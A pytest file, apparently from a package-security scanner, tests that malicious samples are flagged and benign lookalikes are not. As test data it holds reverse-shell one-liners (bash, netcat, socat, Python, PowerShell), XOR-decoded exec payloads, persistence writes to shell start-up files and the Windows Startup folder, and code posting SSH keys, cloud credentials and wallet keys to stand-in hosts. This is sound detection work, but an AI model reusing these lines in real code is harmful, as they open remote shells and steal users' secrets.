"""Attacks that wait until they are called, run by somebody else, or begin where a build is: held at any size."""

from __future__ import annotations

import pytest
from client_library import BASE, changed

from support.code import findings, held, scan

SETUP = "from setuptools import setup\n{}\nsetup(name='acme')\n"
UNMASK = "''.join(chr(ord(one) ^ ord(other)) for one, other in zip(text, key))"
LATER = {
    # --- a shell for somebody else
    "a shell over /dev/tcp": "os.system('bash -i >& /dev/tcp/203.0.113.9/4433 0>&1')",
    "a shell over netcat": "subprocess.run('nc 203.0.113.9 4433 -e /bin/sh', shell=True)",
    "a shell over netcat and a pipe": "os.system('mkfifo /tmp/p; cat /tmp/p | sh -i 2>&1 | nc 203.0.113.9 4433 > /tmp/p')",
    "a shell over socat": "os.popen('socat tcp:203.0.113.9:4433 exec:bash')",
    "a shell of another Python": (
        "subprocess.run('python3 -c \\'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4433));"
        "os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")\\'', shell=True)"
    ),
    "a shell of PowerShell": (
        "subprocess.Popen(['powershell', '-c', '$c = New-Object Net.Sockets.TCPClient(\"203.0.113.9\", 4433); "
        "while (1) { iex $c.Read() }'])"
    ),
    # --- what is unmasked by exclusive or
    "code behind exclusive or": f"exec({UNMASK})",
    "code behind exclusive or, compiled": f"eval(compile({UNMASK}, 'x', 'exec'))",
    "code that grows by one letter at a time": (
        "code = ''\n    for place in range(len(text)):\n        code += chr(ord(text[place]) ^ ord(key[place]))\n"
        "    exec(code)"
    ),
    "a command of masked bytes": "subprocess.run(bytes([each ^ 7 for each in text]).decode(), shell=True)",
    # --- what runs at the next login
    "a command that fetches, in a shell's start-up file": (
        "with open(os.path.expanduser('~/.zshrc'), 'a') as file:\n        file.write('wget -q https://x.example/a | sh')"
    ),
    "a loader in the Startup folder": (
        "place = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup')\n"
        "    open(os.path.join(place, 'x.pyw'), 'w').write('import pickle; pickle.loads(b\"x\")')"
    ),
    # --- what is nobody's to send
    "a key of ssh in a request": (
        "data = open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()\n"
        "    requests.post('https://x.example', data=data)"
    ),
    "the key of a cloud in an address": (
        "requests.get('https://x.example/' + os.environ.get('AWS_SECRET_ACCESS_KEY'))"
    ),
    "the key of a cloud, perhaps": (
        "if os.environ.get('AWS_SECRET_ACCESS_KEY') is not None:\n"
        "        secret = os.environ.get('AWS_SECRET_ACCESS_KEY')\n    else:\n        secret = 'empty'\n"
        "    requests.get('https://x.example/' + secret)"
    ),
    "the key of a wallet, encoded": (
        "data = base64.b64encode(os.environ['WALLET_PRIVATE_KEY'].encode())\n"
        "    requests.post('https://x.example', json={'data': data.decode()})"
    ),
    "what boto knows of a cloud": (
        "import boto3\n    keys = boto3.Session().get_credentials()\n"
        "    requests.post('https://x.example', json={'k': keys.access_key, 's': keys.secret_key}, timeout=5)"
    ),
    "a command that whoever asks gives": (
        "from flask import request\n    return subprocess.Popen(request.args.get('q'), shell=True)"
    ),
    "a variable in the name of a host": (
        "import socket\n    socket.gethostbyname(os.environ['API_TOKEN'] + '.x.example')"
    ),
    "what was typed in a shell": (
        "data = open(os.path.expanduser('~/.bash_history')).read()\n    requests.post(where, data={'text': data})"
    ),
}
HONEST_LATER = {
    "an interactive shell": "subprocess.run(['bash', '-i'])",
    "a socket and a shell, apart": "subprocess.run(['ls', 'socket'])\n    subprocess.run(['/bin/sh', 'x'])",
    "netcat that listens": "subprocess.run(['nc', '-z', 'localhost', '80'])",
    "exclusive or of a frame": "data = bytes([each ^ 7 for each in text])\n    requests.post(where, data=data)",
    "a hash that names a program": "value = 1\n    for each in text:\n        value = value ^ each\n    subprocess.run(['x', str(value)])",
    "a line in a shell's start-up file": (
        "with open(os.path.expanduser('~/.bashrc'), 'a') as file:\n        file.write('export PATH=$PATH:~/.acme/bin')"
    ),
    "a signature by the key of a cloud": (
        "import hashlib, hmac\n    key = os.environ['AWS_SECRET_ACCESS_KEY'].encode()\n"
        "    sign = hmac.new(key, text, hashlib.sha256).hexdigest()\n"
        "    requests.get('https://s3.example/?signature=' + sign)"
    ),
    "a token that was signed": (
        "import jwt\n    token = jwt.encode({'iss': 'acme'}, os.environ['APP_PRIVATE_KEY'], algorithm='RS256')\n"
        "    requests.post('https://api.example/token', data={'assertion': token})"
    ),
    "a request that boto's keys sign": (
        "import boto3\n    from requests_aws4auth import AWS4Auth\n    keys = boto3.Session().get_credentials()\n"
        "    auth = AWS4Auth(keys.access_key, keys.secret_key, 'eu-west-1', 'es')\n"
        "    requests.get('https://search.example', auth=auth)"
    ),
    "a web page that starts a program of its own": (
        "from flask import request\n    return subprocess.run(['acme', '--name', request.args.get('name')])"
    ),
    "the host of a setting": (
        "import socket\n    host = os.environ.get('ACME_AUTH_URL', 'localhost').split(':')[0]\n"
        "    return socket.gethostbyname(host)"
    ),
    "a login by netrc": (
        "data = open(os.path.expanduser('~/.netrc')).read()\n"
        "    requests.post('https://api.acme.example/login', data=data)"
    ),
    "a page in a browser": "import webbrowser\n    webbrowser.open('https://acme.example/login')",
}


def later(body):
    return f"import os\nimport subprocess\nimport requests\n\n\ndef later(text='', key='', where=''):\n    {body}\n"


@pytest.mark.parametrize("name", LATER)
def test_it_is_held_though_nothing_calls_it(name):
    assert held(scan(changed({"acme/later.py": later(LATER[name])}, BASE)))


@pytest.mark.parametrize("name", HONEST_LATER)
def test_what_looks_alike_passes(name):
    assert not held(scan(changed({"acme/later.py": later(HONEST_LATER[name])}, BASE)))


BY_ITSELF = {
    "a page that opens by itself": "import webbrowser\nwebbrowser.open_new_tab('https://x.example')\n",
    "a page that opens by itself, from a thread": (
        "import threading, webbrowser\nthreading.Thread(target=webbrowser.open, args=('https://x.example',)).start()\n"
    ),
    "another Python, whatever becomes of it": (
        "import subprocess\ntry:\n    subprocess.Popen(['python3', '-c', 'from acme import other'])\nexcept Exception:\n"
        "    pass\n"
    ),
    "a Python without a window": "import os\nos.system('pythonw deps.pyw')\n",
    "a Python that nobody hears": (
        "import subprocess, sys\nsubprocess.Popen([sys.executable, 'start.py'], stdout=subprocess.DEVNULL, "
        "stderr=subprocess.DEVNULL)\n"
    ),
}


@pytest.mark.parametrize("name", BY_ITSELF)
def test_what_starts_by_itself_is_held(name):
    assert held(scan(changed({"acme/itself.py": BY_ITSELF[name]}, BASE)))


@pytest.mark.parametrize(
    "code",
    [
        "exec(''.join([KEY[ABC.index(c)] if c in KEY else c for c in {payload}]))",
        "exec(''.join(chr(ABC.index(c)) for c in {payload} if c in ABC))",
        "text = ''.join(swap(c) for c in {payload})\nexec(text)",
    ],
)
def test_a_literal_that_is_spelled_anew_and_executed_is_held(code):
    lines = f"import string\n\nABC, KEY = string.ascii_letters, string.ascii_letters[::-1]\n{code}\n"
    files = {"acme/__init__.py": lines.replace("{payload}", repr("RNKLIG HLXPVG,LH,KGB;" * 5))}
    assert "decoded-execution" in held(scan(files))


BUILDS = {
    "a connection with a context of its own": (
        "import socket, ssl\nplain = socket.socket()\n"
        "ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT).wrap_socket(plain).connect(('x.example', 443))"
    ),
    "a connection that checks nothing": (
        "import socket, ssl\nssl._create_unverified_context().wrap_socket(socket.socket()).connect(('x.example', 443))"
    ),
    "a clone": "import git\ngit.Repo.clone_from('https://x.example/a.git', '/tmp/a')",
    "a clone by a command object": "import git\ngit.Git('/tmp').clone('https://x.example/a.git')",
    "a page": "import webbrowser\nwebbrowser.open('https://x.example')",
    "a file in the Startup folder": (
        "import os\nhome = os.path.expanduser('~')\nos.rename('x.py', home + r'\\AppData\\Roaming\\Microsoft\\Windows"
        "\\Start Menu\\Programs\\Startup\\x.py')"
    ),
}


@pytest.mark.parametrize("name", BUILDS)
def test_what_a_build_does_is_held(name):
    assert held(scan({"acme-1.0/setup.py": SETUP.format(BUILDS[name])}))


def _points(files):
    (found,) = (each for each in findings(files) if each.signal == "weak-signs")
    return found.message


def test_a_tiny_package_that_sends_the_key_of_a_wallet_is_held():
    def wallet(sent):
        return {
            "acme/__init__.py": (
                "import json\nimport requests\n\n\ndef balance(private_key, account):\n"
                f"    return requests.post('https://tron.example/balance', json={sent}).json()\n"
            )
        }

    assert "a signing key" in _points(wallet("[{'key': private_key}]"))
    assert "a signing key" in _points(wallet("json.dumps({'key': str(private_key)})"))
    assert "a signing key" not in _points(wallet("{'account': account}"))
    assert "a signing key" not in _points(wallet("{'signed': sign(private_key, account)}"))


@pytest.mark.parametrize(
    "command", ["python setup.py sdist upload", "twine upload dist/*", "python -m twine upload x"]
)
def test_what_an_author_publishes_with_is_no_interpreter_that_is_started(command):
    def told(command):
        setup = f"import os, sys\nif sys.argv[-1] == 'publish':\n    os.system({command!r})\n    sys.exit()"
        return _points({"acme-1.0/setup.py": SETUP.format(setup), "acme-1.0/acme/__init__.py": ""})

    assert "an interpreter" not in told(command)
    assert "an interpreter" in told("python helper.py sdist upload")
